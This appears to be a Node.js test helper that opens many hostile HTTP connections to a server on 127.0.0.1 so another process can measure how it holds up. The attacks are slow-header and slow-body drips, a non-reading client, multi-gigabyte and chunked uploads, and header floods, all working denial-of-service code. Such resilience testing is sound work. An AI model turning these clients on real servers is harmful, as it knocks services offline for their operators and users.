// Clients that mean no good, as a process of its own, so that they don't slow down the one who measures: node attacks.mjs KIND PORT ADDRESS
// COOKIE. Only ever against this machine. It says "ready" when all of it is under way, or as much as is let in, and ends when its input does.
import net from 'node:net';

const [, , kind, port, address, cookie] = process.argv;
const HOST = '127.0.0.1';
const SLOW_MS = 1000;
const UNDER_WAY_MS = 3000;
let ended = false;
let open = 0;
let wanted = 0;
const ready = () => { if (++open === wanted) process.stdout.write('ready\n'); };
setTimeout(() => process.stdout.write('ready\n'), UNDER_WAY_MS);

function connect(then) {
  const socket = net.connect({ port: Number(port), host: HOST, localAddress: address }, () => { then(socket); ready(); });
  socket.on('error', () => {});
  socket.on('close', () => { if (!ended) setTimeout(() => connect(then), 200); }); // as often as it is thrown out
  return socket;
}
process.stdin.on('end', () => { ended = true; process.exit(0); }).resume();

// Byte by byte, for as long as the other side lets it.
function drip(socket, first) {
  socket.write(first);
  socket.resume();
  const timer = setInterval(() => socket.write('a'), SLOW_MS);
  socket.on('close', () => clearInterval(timer));
}

const head = (method, path, more) => `${method} ${path} HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\n${more}`;
const GIGABYTES = 2 * 2 ** 30;
const BLOCK = Buffer.alloc(65_536, 97);

function pour(socket) {
  const more = () => { while (!socket.destroyed && socket.write(BLOCK)); };
  socket.on('drain', () => setTimeout(more, 5)); // so that it is the other side that is tried, not this machine's processors
  socket.resume();
  more();
}

function again(socket, text) {
  socket.write(text);
  socket.on('data', () => {});
}

const KINDS = {
  // More than there would be places for by nginx's defaults.
  'slow-headers': [3000, (socket) => drip(socket, 'GET / HTTP/1.1\r\nX-Slow: ')],
  'slow-body': [150, (socket) => drip(socket, head('POST', '/login', 'Content-Length: 100000\r\n\r\n'))],
  // Asks for page after page and reads nothing.
  'slow-reader': [90, (socket) => { socket.pause(); socket.write(head('GET', '/customer', '\r\n').repeat(60)); }],
  upload: [2, (socket) => { socket.write(head('POST', '/login', `Content-Length: ${GIGABYTES}\r\n\r\n`)); pour(socket); }],
  'chunked-upload': [2, (socket) => {
    socket.write(head('POST', '/login', 'Transfer-Encoding: chunked\r\n\r\n'));
    socket.resume();
    const timer = setInterval(() => socket.write(`10000\r\n${BLOCK}\r\n`), 5);
    socket.on('close', () => clearInterval(timer));
  }],
  'header-flood': [20, (socket) => again(socket, head('GET', '/login', `${`X-Flood: ${'x'.repeat(1000)}\r\n`.repeat(200)}\r\n`))],
  'one-long-header': [20, (socket) => again(socket, head('GET', '/login', `X-Flood: ${'x'.repeat(100_000)}\r\n\r\n`))],
};

const [count, act] = KINDS[kind];
wanted = count;
for (let i = 0; i < count; i++) connect(act);
